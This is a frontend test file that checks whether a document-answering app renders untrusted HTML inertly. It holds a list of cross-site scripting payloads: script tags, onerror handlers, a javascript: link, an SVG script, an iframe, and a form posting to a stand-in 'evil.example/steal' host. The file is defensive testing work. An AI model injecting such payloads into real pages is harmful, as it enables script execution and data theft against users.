// @vitest-environment jsdom
import { act, cleanup, screen, waitFor, within } from '@testing-library/react'
import userEvent from '@testing-library/user-event'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import type { SourceView } from '../../../shared/api'
import { askResult, COLLECTIONS } from '../test/fakeDocent'
import { renderApp, resetApp } from '../test/setup'

/**
 * Documents and answers are data: a `<script>`, an inline event handler, frames, forms and remote
 * URLs in them must neither run nor load. Each payload would set a global if it executed.
 */

type Flags = { __pwned?: unknown }
const flags = window as unknown as Flags

beforeEach(() => {
  delete flags.__pwned
})
afterEach(() => {
  cleanup()
  resetApp()
})

const HOSTILE = [
  '<script>window.__pwned = "script"</script>',
  '<img src="x" onerror="window.__pwned = \'onerror\'">',
  '<img src="https://tracker.example/pixel.png" alt="remote chart">',
  '<iframe src="https://evil.example/"></iframe>',
  '<form action="https://evil.example/steal"><input name="q"><button>Go</button></form>',
  '<a href="javascript:window.__pwned=\'js-url\'">click me</a>',
  '<div style="background:url(https://evil.example/bg.png)" onclick="window.__pwned=\'click\'">styled</div>',
  '<svg><script>window.__pwned="svg"</script></svg>',
  '<a href="https://example.com/docs">the website</a>',
].join('\n\n')

function assertInert(root: HTMLElement) {
  expect(root.querySelector('script, iframe, form, input, object, embed, svg, style')).toBeNull()
  for (const el of Array.from(root.querySelectorAll('*'))) {
    for (const attr of Array.from(el.attributes)) {
      expect(attr.name.startsWith('on'), `${el.tagName} has ${attr.name}`).toBe(false)
      expect(attr.name).not.toBe('style')
      if (attr.name === 'src' || attr.name === 'href') expect(attr.value).not.toMatch(/^(https?:|javascript:|\/\/)/i)
    }
  }
  expect(root.innerHTML).not.toContain('tracker.example')
}

describe('untrusted HTML', () => {
  it('an answer with a <script> and an onerror handler does not execute them', async () => {
    const { docent } = await renderApp({ 'collections.list': () => COLLECTIONS })
    const box = screen.getByRole('textbox', { name: 'Ask a question about your documents' })
    await userEvent.click(box)
    await userEvent.keyboard('hi{Enter}')
    act(() =>
      docent.emit('ask.event', {
        requestId: 'req-1',
        event: {
          type: 'final',
          result: askResult({
            answer: `Here you go [1].\n\n${HOSTILE}`,
            citations: [
              { n: 1, chunk_id: 'c1', path: 'a.md', heading: '', version: null, page: null, kind: null, collection: 'mcp-docs' },
            ],
          }),
        },
      }),
    )
    const answer = await screen.findByLabelText('Answer')
    await new Promise((r) => setTimeout(r, 50))
    expect(flags.__pwned).toBeUndefined()
    assertInert(answer)
    expect(within(answer).getByText('Image: remote chart')).toBeTruthy()
    // The web link stays readable but cannot navigate: its target sits in data-href for the main process.
    const link = within(answer).getByText('the website')
    expect(link.getAttribute('href')).toBeNull()
    expect(link.getAttribute('data-href')).toBe('https://example.com/docs')
    await userEvent.click(within(answer).getByText('styled'))
    expect(flags.__pwned).toBeUndefined()
  })

  for (const format of ['markdown', 'html'] as const) {
    it(`a ${format} document with a <script> and an onerror handler does not execute them in the source viewer`, async () => {
      const view: SourceView = {
        chunk_id: 'c1',
        collection: 'mcp-docs',
        path: `evil.${format === 'markdown' ? 'md' : 'html'}`,
        format,
        heading: '',
        version: null,
        page: null,
        page_end: null,
        passage: 'The safe paragraph explains the widget.',
        content: `<h1>Evil</h1>\n\n<p>The safe paragraph explains the widget.</p>\n\n${HOSTILE}`,
        pdf_base64: null,
      }
      const { docent } = await renderApp({ 'collections.list': () => COLLECTIONS, 'source.open': () => view })
      const box = screen.getByRole('textbox', { name: 'Ask a question about your documents' })
      await userEvent.click(box)
      await userEvent.keyboard('q{Enter}')
      act(() =>
        docent.emit('ask.event', {
          requestId: 'req-1',
          event: {
            type: 'final',
            result: askResult({
              answer: 'See [1].',
              citations: [
                {
                  n: 1,
                  chunk_id: 'c1',
                  path: view.path,
                  heading: '',
                  version: null,
                  page: null,
                  kind: null,
                  collection: 'mcp-docs',
                },
              ],
            }),
          },
        }),
      )
      await userEvent.click(await screen.findByRole('button', { name: /Source 1:/ }))
      const doc = await screen.findByLabelText(`Contents of ${view.path}`)
      await waitFor(() => expect(doc.querySelector('mark')).not.toBeNull())
      await new Promise((r) => setTimeout(r, 50))
      expect(flags.__pwned).toBeUndefined()
      assertInert(doc)
      expect(document.querySelector('script')).toBeNull()
    })
  }

  it('a text document is shown as text, never parsed as HTML', async () => {
    const view: SourceView = {
      chunk_id: 'c1',
      collection: 'notes',
      path: 'notes.txt',
      format: 'text',
      heading: '',
      version: null,
      page: null,
      page_end: null,
      passage: 'plain words',
      content: 'plain words <img src=x onerror="window.__pwned=1">',
      pdf_base64: null,
    }
    const { docent } = await renderApp({ 'collections.list': () => COLLECTIONS, 'source.open': () => view })
    await userEvent.click(screen.getByRole('textbox', { name: 'Ask a question about your documents' }))
    await userEvent.keyboard('q{Enter}')
    act(() =>
      docent.emit('ask.event', {
        requestId: 'req-1',
        event: {
          type: 'final',
          result: askResult({
            answer: 'See [1].',
            citations: [
              {
                n: 1,
                chunk_id: 'c1',
                path: 'notes.txt',
                heading: '',
                version: null,
                page: null,
                kind: null,
                collection: 'notes',
              },
            ],
          }),
        },
      }),
    )
    await userEvent.click(await screen.findByRole('button', { name: /Source 1:/ }))
    const doc = await screen.findByLabelText('Contents of notes.txt')
    expect(doc.querySelector('img')).toBeNull()
    expect(doc.textContent).toContain('<img src=x onerror="window.__pwned=1">')
    expect(flags.__pwned).toBeUndefined()
  })
})
